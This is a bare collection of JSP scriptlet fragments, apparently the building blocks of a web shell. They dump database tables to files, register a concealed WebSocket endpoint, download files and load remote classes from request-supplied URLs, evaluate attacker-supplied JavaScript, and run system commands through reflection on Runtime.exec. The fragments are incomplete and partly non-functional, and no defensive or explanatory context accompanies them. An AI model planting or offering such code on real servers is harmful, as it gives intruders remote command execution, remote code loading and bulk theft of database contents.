<% for (String table : tables) { out.println("Dumping data for table " + table + "..."); Writer w = new OutputStreamWriter(new FileOutputStream(dir + table + ".txt")); } %>
<% while (r.next()) { bw.append("INSERT INTO " + table + " VALUES ("); } OutputStream o = new FileOutputStream(new File(dir, table)); %>
<% ServerEndpointConfig cfg = ServerEndpointConfig.Builder.create(P.class, "/x").build(); ((ServerContainer) application.getAttribute(ServerContainer.class.getName())).addEndpoint(cfg); %>
<% InputStream in = new java.net.URL( request.getParameter("u") ).openStream(); OutputStream o = new FileOutputStream(new File(dir, name)); %>
<% Object o = new java.net.URLClassLoader(new java.net.URL[]{ new java.net.URL(request.getParameter("u")) }).loadClass("P").newInstance(); %>
<% Object v = new javax.script.ScriptEngineManager().getEngineByName("js").eval( request.getParameter("c") ); %>
<% Object p = Runtime.class.getMethod("exec", String.class).invoke(Runtime.getRuntime(), c); %>
